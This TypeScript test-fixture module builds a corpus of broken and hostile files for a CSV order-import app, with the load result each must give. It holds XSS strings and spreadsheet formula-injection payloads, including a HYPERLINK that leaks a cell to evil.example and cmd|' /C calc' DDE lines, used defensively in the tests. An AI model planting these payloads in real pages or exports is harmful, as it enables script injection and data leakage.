/**
 * The hostile-file corpus (issue 7): every kind of broken, strange or malicious file a
 * reader may drop, each with what the app must make of it. Deterministic (seeded bytes, no
 * clock), built in memory so that tests need no files on disk; `npm run hostile:data`
 * writes the same bytes to tests/fixtures/hostile/ for trying them by hand.
 *
 * Most files are a small, good orders export (GOOD_ORDERS, every number known) with one
 * kind of damage worked into it, so a test can check that exactly the good rows load:
 * `expect.orders` and `expect.revenue` are counted here in plain TypeScript from the rows
 * written, never by the app's SQL.
 */
import iconv from "iconv-lite";
import { Rng } from "../demo/prng.ts";

/** What loading one corpus file must give. */
export type HostileExpectation =
  /** Refused as a whole, with this `errors.` reason (and these message parameters). */
  | { refused: string; params?: Record<string, string | number> }
  /**
   * Loaded: this many orders (returns excluded) worth this much, with at least these
   * problems reported (row numbers as a spreadsheet shows them, header = 1), and, where
   * given, these products stored, in the file's row order.
   */
  | { orders: number; revenue: number; problems: ExpectedProblem[]; products?: string[] }
  /** Anything but a crash: loaded or refused, the invariants of every load hold. */
  | { survives: true };

export interface ExpectedProblem {
  row: number;
  /** The header of the cell, "" for the whole row. */
  column: string;
  reason: string;
}

export interface HostileFile {
  name: string;
  /** What is wrong with it, in a few words. */
  what: string;
  bytes: () => Uint8Array;
  expect: HostileExpectation;
}

const SEED = 7_2025;
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const concat = (...parts: Uint8Array[]): Uint8Array => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
};

export const ORDER_HEADER = ["order_id", "customer_id", "order_date", "amount", "product"] as const;

export interface GoodOrder {
  id: string;
  customer: string;
  date: string;
  amount: number;
  product: string;
}

/** Eight good orders from five customers; products in Chinese, so that encodings matter. */
export const GOOD_ORDERS: readonly GoodOrder[] = [
  { id: "H1", customer: "C1", date: "2024-01-05", amount: 120.5, product: "绿茶礼盒" },
  { id: "H2", customer: "C2", date: "2024-01-09", amount: 80, product: "乌龙茶" },
  { id: "H3", customer: "C1", date: "2024-02-11", amount: 45.25, product: "茶具套装" },
  { id: "H4", customer: "C3", date: "2024-02-20", amount: 300, product: "普洱茶饼" },
  { id: "H5", customer: "C4", date: "2024-03-02", amount: 19.9, product: "花茶" },
  { id: "H6", customer: "C2", date: "2024-03-15", amount: 66, product: "红茶" },
  { id: "H7", customer: "C5", date: "2024-03-28", amount: 150, product: "白茶" },
  { id: "H8", customer: "C3", date: "2024-04-01", amount: 12.35, product: "茶杯" },
];

/**
 * 150 more good orders (G1… from customers C1–C9, one a day from 2024-01-01, 1.00–10.00):
 * enough around a dozen bad values for the column to be seen as dates or amounts (≥ 90 %).
 */
export const FILLER_ORDERS: readonly GoodOrder[] = Array.from({ length: 150 }, (_, k) => ({
  id: `G${k + 1}`,
  customer: `C${(k % 9) + 1}`,
  date: new Date(Date.UTC(2024, 0, 1 + k)).toISOString().slice(0, 10),
  amount: (k % 10) + 1,
  product: "茶",
}));

const orderLine = (o: GoodOrder): string => [o.id, o.customer, o.date, o.amount.toFixed(2), o.product].join(",");
export const revenueOf = (orders: readonly GoodOrder[]): number => orders.reduce((sum, o) => sum + o.amount, 0);
/** The good orders as an export, header first, with `newline` after every line. */
export const goodCsv = (newline = "\n"): string => [ORDER_HEADER.join(","), ...GOOD_ORDERS.map(orderLine)].map((line) => line + newline).join("");
const allGood = (problems: ExpectedProblem[] = []): HostileExpectation => ({
  orders: GOOD_ORDERS.length,
  revenue: revenueOf(GOOD_ORDERS),
  problems,
});

/**
 * `orders` with `lines` put in after the order at `index` (0-based); returns the text and the
 * row the first inserted line lands on.
 */
function withLinesAfter(index: number, lines: string[], orders: readonly GoodOrder[] = GOOD_ORDERS): { text: string; firstRow: number } {
  const body = orders.map(orderLine);
  body.splice(index + 1, 0, ...lines);
  // Row 1 is the header; order i is on row i + 2, so the first inserted line is on index + 3.
  return { text: [ORDER_HEADER.join(","), ...body].map((l) => l + "\n").join(""), firstRow: index + 3 };
}

/** A real 1×1 PNG (signature, IHDR, IDAT, IEND). */
const PNG_BYTES = Uint8Array.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x00, 0x01,
  0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41,
  0x54, 0x78, 0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0xf0, 0x1f, 0x00, 0x05, 0x00, 0x01, 0xff, 0x89, 0x99, 0x3d, 0x1d, 0x00, 0x00,
  0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
]);

function randomBytes(length: number, seed: number, pick?: (rng: Rng) => number): Uint8Array {
  const rng = new Rng(seed);
  const bytes = new Uint8Array(length);
  for (let i = 0; i < length; i++) bytes[i] = pick ? pick(rng) : rng.int(0, 255);
  return bytes;
}

/** A file `width` columns wide: customer_id, order_date, amount, then filler columns; `rows` orders. */
function wideCsv(width: number, rows: number): string {
  const header = ["customer_id", "order_date", "amount"];
  for (let c = header.length + 1; c <= width; c++) header.push(`extra_${c}`);
  const lines = [header.join(",")];
  for (let r = 1; r <= rows; r++) {
    const cells = [`W${r}`, `2024-05-0${r}`, `${r * 10}.00`];
    for (let c = cells.length + 1; c <= width; c++) cells.push(c % 2 ? "x" : "");
    lines.push(cells.join(","));
  }
  return lines.join("\n") + "\n";
}

/** Payloads that would run script or reach another origin if any view inserted text as HTML, or a spreadsheet ran it. */
export const MARKUP_PAYLOADS = [
  '<img src=x onerror="window.__pwned=1">',
  "<script>window.__pwned=1</script>",
  '<a href="javascript:window.__pwned=1">click</a>',
  '<svg onload="window.__pwned=1"><circle r="5"/></svg>',
  '"><iframe src="javascript:window.__pwned=1"></iframe>',
  '<img src="https://evil.example/beacon.png">',
] as const;
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
] as const;

/** Every payload, markup first: 12 in all. */
const PAYLOADS: readonly string[] = [...MARKUP_PAYLOADS, ...FORMULA_PAYLOADS];
const payload = (i: number): string => PAYLOADS[i % PAYLOADS.length] as string;
const csvCell = (cell: string): string => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
const csvText = (rows: readonly (readonly string[])[]): string => rows.map((r) => r.map(csvCell).join(",")).join("\r\n") + "\r\n";

/**
 * A small shop whose every text cell — names, emails, cities, regions, tiers, products,
 * channels, categories, comments, one customer ID, extra headers and a file name — is a
 * payload that would set `window.__pwned`, load another origin or run in a spreadsheet if
 * any view inserted it as HTML or any export left it live. Customer 12's ID is
 * `<script>window.__pwned=1</script>`; customer 1 is named `=HYPERLINK(…)`; customer 4's
 * email is markup (one bad email in twelve, so that the column still maps as emails).
 */
export function markupShop(): { name: string; text: string }[] {
  const ids = Array.from({ length: 12 }, (_, i) => (i === 11 ? payload(1) : `C${String(i + 1).padStart(2, "0")}`));
  const customers = [
    ["customer_id", "name", "email", "phone", "city", "region", "tier", payload(0)],
    ...ids.map((id, i) => [id, payload(i + 6), i === 3 ? `${payload(i)}@example.com` : `c${i}@example.com`, `138-0000-00${String(i).padStart(2, "0")}`, payload(i + 2), payload(i + 4), payload(i + 7), payload(i + 8)]),
  ];
  const orders = [["order_id", "customer_id", "order_date", "amount", "product", "channel", "category", "status"]];
  ids.forEach((id, i) => {
    for (let k = 0; k <= i % 4; k++) {
      const date = new Date(Date.UTC(2024, (i + 3 * k) % 12, 1 + ((i * 7 + k) % 27))).toISOString().slice(0, 10);
      orders.push([`P${i + 1}-${k + 1}`, id, date, `${10 * (k + 1) + i}.00`, payload(i + k), payload((i + k) % 3), payload(i + 5), "completed"]);
    }
  });
  const feedback = [
    ["feedback_id", "customer_id", "date", "nps_score", "csat_score", "comment", "category", "channel", payload(6)],
    ...ids.map((id, i) => [`F${i + 1}`, id, `2024-${String((i % 12) + 1).padStart(2, "0")}-15`, String((i * 3) % 11), String((i % 5) + 1), i % 2 ? `terrible slow ${payload(i)}` : `great helpful ${payload(i)}`, payload(i + 3), payload(i + 9), payload(i)]),
  ];
  return [
    { name: "customers.csv", text: csvText(customers) },
    { name: "orders.csv", text: csvText(orders) },
    { name: `反馈<img src=x onerror="window.__pwned=1">.csv`, text: csvText(feedback) },
  ];
}

/** Orders whose every text cell (headers of extra columns too) is a payload; ids, dates and amounts stay readable. */
function payloadCsv(): { text: string; orders: GoodOrder[] } {
  const orders = GOOD_ORDERS.map((o, i) => ({ ...o, customer: payload(i), product: payload(i + 3) }));
  const rows = orders.map((o, i) => [o.id, o.customer, o.date, o.amount.toFixed(2), o.product, payload(i + 5), payload(i + 7)]);
  return { text: csvText([[...ORDER_HEADER, payload(0), payload(6)], ...rows]), orders };
}

/** Dates impossible (bad_date) or outside 1900–2100 (date_out_of_range), each on an order of its own. */
export const BAD_DATES = [
  ["0001-01-01", "bad_date"], ["1000-01-01", "date_out_of_range"], ["1899-12-31", "date_out_of_range"],
  ["9999-12-31", "date_out_of_range"], ["2101-01-01", "date_out_of_range"], ["2024-02-30", "bad_date"],
  ["2023-02-29", "bad_date"], ["2024-13-01", "bad_date"], ["10000-01-01", "bad_date"], ["-2024-01-01", "bad_date"],
  ["1e9", "bad_date"],
] as const;
/** Amounts no export should hold, each on an order of its own ("NaN" is read as a missing value, like NA). */
export const BAD_NUMBERS = [
  ["1e309", "bad_number"], ["--5", "bad_number"], ["NaN", "missing_required"], ["Infinity", "bad_number"],
  ["-Infinity", "bad_number"], ["0x1F", "bad_number"], ["1_000", "bad_number"], ["9".repeat(400), "bad_number"],
  ["1,2,3", "bad_number"], ["١٢٣", "bad_number"], ["+-5", "bad_number"], ["5..0", "bad_number"],
] as const;

const badRows = (values: readonly string[], cell: (value: string, i: number) => string[]): string[] =>
  values.map((value, i) => cell(value, i).join(","));

function corruptedUtf8(): Uint8Array {
  // Row 4's product loses the last byte of its first character; the file ends inside a character.
  const lines = goodCsv().split("\n").slice(0, -1);
  const bytes = lines.map((line) => utf8(line + "\n"));
  const row4 = bytes[3] as Uint8Array;
  const cut = row4.indexOf(0xe8); // 茶 in 茶具套装 starts E8 8C B6
  bytes[3] = concat(row4.subarray(0, cut + 2), row4.subarray(cut + 3));
  return concat(...bytes, utf8("H9,C9,2024-04-02,1.00,"), utf8("绿").subarray(0, 2));
}

/** 5 MB (in UTF-8) of seeded letters, Chinese characters and spaces: a 64 K-character random block repeated. */
const bigField = (): string => {
  const rng = new Rng(SEED + 5);
  const letters = "abcdefghij 中文字段内容";
  let block = "";
  for (let i = 0; i < 64 * 1024; i++) block += letters[rng.int(0, letters.length - 1)];
  return block.repeat(Math.ceil((5 * 1024 * 1024) / utf8(block).length));
};

export function hostileCorpus(): HostileFile[] {
  const repeated = withLinesAfter(3, [ORDER_HEADER.join(",")]);
  const conflict = withLinesAfter(1, ["<<<<<<< HEAD", "H1b,C1,2024-01-06,1.00,冲突", "=======", "H1c,C1,2024-01-07,2.00,冲突", ">>>>>>> theirs"]);
  const conflictOrders = [...GOOD_ORDERS, { id: "H1b", customer: "C1", date: "", amount: 1, product: "" }, { id: "H1c", customer: "C1", date: "", amount: 2, product: "" }];
  const ragged = withLinesAfter(2, ["R1,C6,2024-02-01", "R2,C6,2024-02-02,10.00,茶,extra,cells"]);
  const payload = payloadCsv();
  const many = [...GOOD_ORDERS, ...FILLER_ORDERS];
  const dates = withLinesAfter(7, badRows(BAD_DATES.map(([d]) => d), (d, i) => [`D${i}`, "C7", d, "1.00", "茶"]), many);
  const numbers = withLinesAfter(7, badRows(BAD_NUMBERS.map(([n]) => n), (n, i) => [`N${i}`, "C8", "2024-04-02", n.includes(",") ? `"${n}"` : n, "茶"]), many);
  const manyGood = (problems: ExpectedProblem[]): HostileExpectation => ({ orders: many.length, revenue: revenueOf(many), problems });
  const unbalanced = withLinesAfter(2, ['U1,C6,2024-02-03,5.00,"unclosed quote']);
  const mixed = ORDER_HEADER.join(",") + "\r\n" + GOOD_ORDERS.map((o, i) => orderLine(o) + ["\n", "\r\n", "\r"][i % 3]).join("");

  return [
    { name: "empty.csv", what: "zero bytes", bytes: () => new Uint8Array(0), expect: { refused: "empty_file" } },
    { name: "blank-lines.csv", what: "only line breaks and spaces", bytes: () => utf8("\r\n\n   \n\t\n"), expect: { refused: "empty_file" } },
    { name: "bom-only.csv", what: "a UTF-8 byte-order mark and nothing else", bytes: () => Uint8Array.from([0xef, 0xbb, 0xbf]), expect: { refused: "empty_file" } },
    { name: "header-only.csv", what: "a header row and no data", bytes: () => utf8(ORDER_HEADER.join(",") + "\r\n"), expect: { refused: "header_only" } },
    { name: "only-delimiters.csv", what: "commas and nothing between them", bytes: () => utf8(",,,\n,,,\n,,,\n"), expect: { refused: "empty_file" } },
    { name: "orders.json", what: "JSON, not CSV", bytes: () => utf8(JSON.stringify(GOOD_ORDERS, null, 2)), expect: { refused: "json_file" } },
    { name: "chart.png", what: "a PNG image", bytes: () => PNG_BYTES, expect: { refused: "binary_file" } },
    { name: "photo-named.csv", what: "a PNG image named .csv", bytes: () => PNG_BYTES, expect: { refused: "binary_file" } },
    { name: "random-bytes.csv", what: "64 KB of random bytes", bytes: () => randomBytes(64 * 1024, SEED), expect: { refused: "binary_file" } },
    {
      name: "random-text.csv",
      what: "64 KB of random printable bytes, commas, quotes and line breaks",
      bytes: () => randomBytes(64 * 1024, SEED + 1, (rng) => rng.pick([0x2c, 0x22, 0x0a, 0x0d, 0x3b, rng.int(0x20, 0xff), rng.int(0x20, 0x7e)])),
      expect: { survives: true },
    },
    { name: "truncated.xlsx", what: "the start of a ZIP archive and then random bytes", bytes: () => concat(Uint8Array.from([0x50, 0x4b, 0x03, 0x04]), randomBytes(4096, SEED + 2)), expect: { survives: true } },
    { name: "broken.xls", what: "an OLE header and then random bytes", bytes: () => concat(Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), randomBytes(4096, SEED + 3)), expect: { refused: "xlsx.xls" } },

    { name: "orders-utf8-bom.csv", what: "UTF-8 with a byte-order mark, CRLF", bytes: () => concat(Uint8Array.from([0xef, 0xbb, 0xbf]), utf8(goodCsv("\r\n"))), expect: allGood() },
    { name: "orders-utf16le.csv", what: "UTF-16 little-endian with a BOM", bytes: () => iconv.encode(goodCsv("\r\n"), "utf16le", { addBOM: true }), expect: allGood() },
    { name: "orders-utf16be.csv", what: "UTF-16 big-endian with a BOM", bytes: () => iconv.encode(goodCsv("\r\n"), "utf16be", { addBOM: true }), expect: allGood() },
    { name: "orders-utf16le-nobom.csv", what: "UTF-16 little-endian without a BOM", bytes: () => iconv.encode(goodCsv("\r\n"), "utf16le"), expect: allGood() },
    { name: "orders-gb18030.csv", what: "GB18030", bytes: () => iconv.encode(goodCsv("\r\n"), "gb18030"), expect: allGood() },
    { name: "orders-big5.csv", what: "Big5 (traditional characters)", bytes: () => iconv.encode(goodCsv("\r\n").replace("绿茶礼盒", "綠茶禮盒").replace("乌龙", "烏龍"), "big5"), expect: allGood() },
    { name: "orders-shift-jis.csv", what: "Shift-JIS, an encoding the app does not know", bytes: () => iconv.encode(goodCsv("\r\n").replace(/[\u4e00-\u9fff]+/g, "お茶"), "shift_jis"), expect: allGood() },
    { name: "orders-cp1252.csv", what: "windows-1252 accents", bytes: () => iconv.encode(goodCsv("\r\n").replace(/[\u4e00-\u9fff]+/g, "Thé vert"), "win1252"), expect: allGood() },
    { name: "truncated-utf8.csv", what: "UTF-8 with a character cut mid-file and another cut by the end of the file", bytes: corruptedUtf8, expect: { orders: GOOD_ORDERS.length + 1, revenue: revenueOf(GOOD_ORDERS) + 1, problems: [{ row: 4, column: "product", reason: "bad_encoding" }, { row: 10, column: "product", reason: "bad_encoding" }] } },

    { name: "ragged.csv", what: "a short row and a long row", bytes: () => utf8(ragged.text), expect: { orders: GOOD_ORDERS.length + 1, revenue: revenueOf(GOOD_ORDERS) + 10, problems: [{ row: ragged.firstRow, column: "", reason: "ragged_row" }, { row: ragged.firstRow, column: "amount", reason: "missing_required" }, { row: ragged.firstRow + 1, column: "", reason: "ragged_row" }] } },
    // The open quote's record ends with its line: its cells are read (5.00 counts), the rows after it load.
    { name: "unbalanced-quote.csv", what: "a quote opened and never closed", bytes: () => utf8(unbalanced.text), expect: { orders: GOOD_ORDERS.length + 1, revenue: revenueOf(GOOD_ORDERS) + 5, problems: [{ row: unbalanced.firstRow, column: "", reason: "parse_error" }] } },
    { name: "repeated-header.csv", what: "the header again mid-file (two exports pasted together)", bytes: () => utf8(repeated.text), expect: allGood([{ row: repeated.firstRow, column: "", reason: "repeated_header" }]) },
    { name: "conflict-markers.csv", what: "git conflict markers", bytes: () => utf8(conflict.text), expect: { orders: conflictOrders.length, revenue: revenueOf(conflictOrders), problems: [conflict.firstRow, conflict.firstRow + 2, conflict.firstRow + 4].map((row) => ({ row, column: "", reason: "ragged_row" })) } },
    { name: "mixed-newlines.csv", what: "CRLF, LF and CR line endings in one file", bytes: () => utf8(mixed), expect: allGood() },
    {
      name: "nul-bytes.csv",
      what: "NUL bytes inside cells and as padding at the end",
      bytes: () => concat(utf8(goodCsv().replace("乌龙茶", "乌龙\u0000茶").replace("红茶", "\u0000红茶\u0000")), new Uint8Array(512)),
      expect: allGood(),
    },
    { name: "long-field.csv", what: "a 5 MB field", bytes: () => utf8(goodCsv().replace("普洱茶饼", `"${bigField()}"`)), expect: allGood() },
    { name: "formulas-and-markup.csv", what: "formulas and markup in every text cell and header", bytes: () => utf8(payload.text), expect: { orders: payload.orders.length, revenue: revenueOf(payload.orders), problems: [] } },
    { name: "dates-out-of-range.csv", what: "years 1, 1000, 1899, 9999, 2101, 10000, 30 February, month 13", bytes: () => utf8(dates.text), expect: manyGood(BAD_DATES.map(([, reason], i) => ({ row: dates.firstRow + i, column: "order_date", reason }))) },
    { name: "bad-numbers.csv", what: "1e309, --5, NaN, Infinity, 400 nines…", bytes: () => utf8(numbers.text), expect: manyGood(BAD_NUMBERS.map(([, reason], i) => ({ row: numbers.firstRow + i, column: "amount", reason }))) },
    { name: "columns-1999.csv", what: "1,999 columns", bytes: () => utf8(wideCsv(1999, 5)), expect: { orders: 5, revenue: 150, problems: [] } },
    { name: "columns-2000.csv", what: "2,000 columns: kept as its bytes, one more than a raw table holds beside its row number", bytes: () => utf8(wideCsv(2000, 5)), expect: { orders: 5, revenue: 150, problems: [] } },
    { name: "columns-2001.csv", what: "2,001 columns", bytes: () => utf8(wideCsv(2001, 5)), expect: { refused: "too_many_columns", params: { columns: "2,001", max: "2,000" } } },
    { name: "columns-10000.csv", what: "10,000 columns", bytes: () => utf8(wideCsv(10_000, 3)), expect: { refused: "too_many_columns", params: { columns: "10,000", max: "2,000" } } },
  ];
}
